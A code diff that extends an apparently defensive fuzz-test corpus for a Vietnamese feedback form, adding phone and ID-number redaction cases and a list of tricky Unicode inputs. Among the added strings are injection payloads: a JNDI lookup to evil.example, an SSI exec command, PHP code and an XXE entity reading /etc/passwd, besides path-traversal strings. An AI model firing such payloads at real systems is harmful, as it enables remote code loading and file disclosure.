@@ -85,12 +85,56 @@ PERSONAL_NUMBERS = [
     ("số ０９１２３４５６７８", "０９１２３４５６７８"),
     ("0912\u200b345\u200b678", "345\u200b678"),
     ("0912\u00a0345\u00a0678", "345\u00a0678"),
+    ("Zalo 0987.654.321", "0987.654.321"),
+    ("(0239) 3.855.000", "3.855.000"),
+    ("CMND số: 183 456 789", "183 456 789"),
 ]
 MONEY = ["Hỗ trợ 5.000.000.000 đồng", "50.000 đồng/m²", "Nghị quyết 12/2024/NQ-HĐND ngày 12/07/2024"]
 LINKS = ["http://a.example http://b.example http://c.example www.d.example", "xem https://spam.example/?q=1"]
 OTHER = ["", " ", "🙂🙃 emoji", "Ｆｕｌｌｗｉｄｔｈ", "ⓓⓐⓝ", "../../../etc/passwd", "%00%2e%2e", "null", "None"]
+UNICODE = [
+    "Đối thoại",  # decomposed (NFD) Vietnamese, as some keyboards send it
+    "Z̷̢̛a̸͎̓l̴̰̈g̵̱̈́o̸̦͝ ̷̛̟t̶̖̓e̵̮͝x̷̰̾t̵͈̂",
+    "مرحبا بالعالم",  # right-to-left script
+    "שלום עולם",
+    "👨‍👩‍👧‍👦 gia đình",
+    "line\u2028separator\u2029paragraph",
+    "Ꭰ𝐚𝐧 𝓿𝓪̣̂𝓷",  # look-alike letters
+    "x" * 300,  # one very long word
+    "tab\tseparated\tvalues",
+    "\\x00 literally",
+    "%s %(name)s {0} {name}",
+    "${jndi:ldap://evil.example/a}",
+    '<!--#exec cmd="ls" -->',
+    "<?php echo 1; ?>",
+    "]]><![CDATA[",
+    "<xml><!ENTITY x SYSTEM 'file:///etc/passwd'></xml>",
+    "-- giải thích",
+    "@Chủ tịch UBND tỉnh",
+    "+ bổ sung khoản 3",
+    "= tổng cộng",
+    "0000000000000",
+    "123456789012345678901234567890",
+    "9" * 12,
+    "Số tài khoản 1903 6789 0123 45",
+    "email: ai.do@example.com (trong nội dung)",
+    "Liên hệ qua Zalo 0912 345 678 hoặc 0987.654.321",
+    "CCCD: 0 4 2 0 9 0 0 0 1 2 3 4",
+]
 
-CORPUS = XSS + BIDI + CONTROL + HUGE + SQL + FORMULAS + [text for text, _ in PERSONAL_NUMBERS] + MONEY + LINKS + OTHER
+CORPUS = (
+    XSS
+    + BIDI
+    + CONTROL
+    + HUGE
+    + SQL
+    + FORMULAS
+    + [text for text, _ in PERSONAL_NUMBERS]
+    + MONEY
+    + LINKS
+    + OTHER
+    + UNICODE
+)
 CONTACT_EMAIL = "rieng-tu.{n}@example.com"
 CONTACT_PHONE = "0977{n:06d}"
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
